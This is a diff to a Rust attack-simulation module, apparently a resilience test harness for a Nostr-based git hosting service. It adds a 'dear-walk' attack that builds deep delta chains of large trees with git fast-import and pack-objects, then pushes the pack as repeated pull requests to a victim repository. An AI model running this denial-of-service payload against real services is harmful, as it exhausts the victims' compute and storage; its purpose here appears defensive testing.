@@ -33,6 +33,14 @@ pub(super) const ATTACKS: &[Attack] = &[
         prepare: |attacker| Box::pin(nested_trees(attacker)),
     },
     Attack {
+        name: "dear-walk",
+        does: "PRs to the victim's repository whose trees are dear to walk, with commits that they do not need",
+        costs: "300 KB a push",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(dear_walk(attacker)),
+    },
+    Attack {
         name: "delta-of-a-large-tag",
         does: "a small tag that is a delta of one of 64 MB, in a repository of his own; asks for its refs",
         costs: "some 100 KB, and then requests",
@@ -94,6 +102,48 @@ async fn nested_trees(attacker: Attacker) -> Assault {
     shell(&format!("git -C {} fast-import --quiet", directory.display()), &input).await;
     let commit = own.git.rev_parse("refs/heads/deep").await;
     let pack = own.pack(&format!("{commit}\n"), "").await;
+    pull_requests(attacker, commit, pack)
+}
+
+/// Large trees, each a delta of the one before, which the commit reaches in another order.
+async fn dear_walk(attacker: Attacker) -> Assault {
+    let own = OwnRepository::new(&attacker, "dear").await;
+    let directory = attacker.folder.join(own.repository.npub());
+    let git = format!("git -C {}", directory.display());
+    let import = format!("{git} fast-import --quiet --depth=4095");
+    let person = "committer A <a@example.com> 1 +0000\ndata 0\n";
+    let mut script = format!("blob\nmark :1\ndata 1\nx\ncommit refs/heads/chain\n{person}");
+    for number in 0..ENTRIES {
+        writeln!(script, "M 100644 :1 f{number:05}").unwrap();
+    }
+    for number in 1..TREES {
+        let file = number * ENTRIES / TREES;
+        write!(script, "commit refs/heads/chain\n{person}M 100755 :1 f{file:05}\n").unwrap();
+    }
+    shell(&import, &script).await;
+    let trees = shell(&format!("{git} log --format=%T chain"), "").await;
+    let trees: Vec<&str> = trees.lines().collect();
+    let mut script = String::new();
+    for number in 0..trees.len() {
+        // It has no divisor in common with their number: each is visited.
+        let tree = trees[number * 379 % trees.len()];
+        write!(script, "commit refs/heads/dear\n{person}M 040000 {tree} \"\"\n").unwrap();
+    }
+    shell(&import, &script).await;
+    let commit = own.git.rev_parse("refs/heads/dear").await;
+    // All that is there, also the first commits, as it stands.
+    let list = format!("{git} cat-file --batch-all-objects '--batch-check=%(objectname)'");
+    let file = attacker.folder.join("dear.pack");
+    let pack = format!(
+        "{git} pack-objects --quiet --depth=4095 --window=0 --stdout >{}",
+        file.display()
+    );
+    shell(&format!("{list} | {pack}"), "").await;
+    pull_requests(attacker, commit, std::fs::read(file).unwrap())
+}
+
+/// Pushes a pack to the victim's repository as the commit of one PR after the other, and publishes these.
+fn pull_requests(attacker: Attacker, commit: String, pack: Vec<u8>) -> Assault {
     Box::pin(async move {
         let author = Keys::generate();
         for number in 0.. {
@@ -243,3 +293,6 @@ fn stored(bytes: &[u8]) -> Vec<u8> {
 
 const ZEROS: usize = 4 << 20;
 const DELTAS: u32 = 500;
+/// Some 900 KB each.
+const ENTRIES: usize = 26_000;
+const TREES: usize = 900;
